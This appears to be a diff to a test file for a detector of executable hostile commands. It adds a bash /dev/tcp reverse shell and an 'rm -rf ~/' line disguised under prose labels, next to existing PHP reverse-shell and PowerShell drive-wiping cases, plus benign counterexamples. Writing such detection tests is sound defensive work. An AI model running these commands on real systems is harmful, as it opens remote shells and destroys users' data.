@@ -107,6 +107,9 @@ EXECUTABLE = [
     ("executable:reverse-shell", 'php -r \'$sock=fsockopen("203.0.113.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");\''),
     ("executable:destructive-shell", f"{FENCE}powershell\nRemove-Item -Recurse -Force C:\\Windows\\System32\n{FENCE}"),
     ("executable:destructive-shell", f"{FENCE}powershell\nFormat-Volume -DriveLetter C -Force\n{FENCE}"),
+    # a label, then the command, on a line of prose
+    ("executable:reverse-shell", "Debug tunnel: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+    ("executable:destructive-shell", "Cleanup: rm -rf ~/"),
 ]
 
 
@@ -145,6 +148,9 @@ def test_executable_finding_points_at_the_command_line() -> None:
         "[docs](https://example.com/javascript:guide)",
         "Notes on XSS: the `javascript:` scheme &amp; script tags are filtered by the sanitizer.",
         "certutil -hashfile setup.exe SHA256",
+        "Note: rm removes files, and rm -r removes folders.",
+        "Warning: never run rm -rf / on a server.",
+        'Example: find / -name "*.log" prints every log file.',
         "curl -s https://api.example/x | sudo tee /etc/app/sh.conf",
         "powershell -ExecutionPolicy Bypass -File .\\build.ps1",
         'python3 -c "import socket; print(socket.gethostname())"',
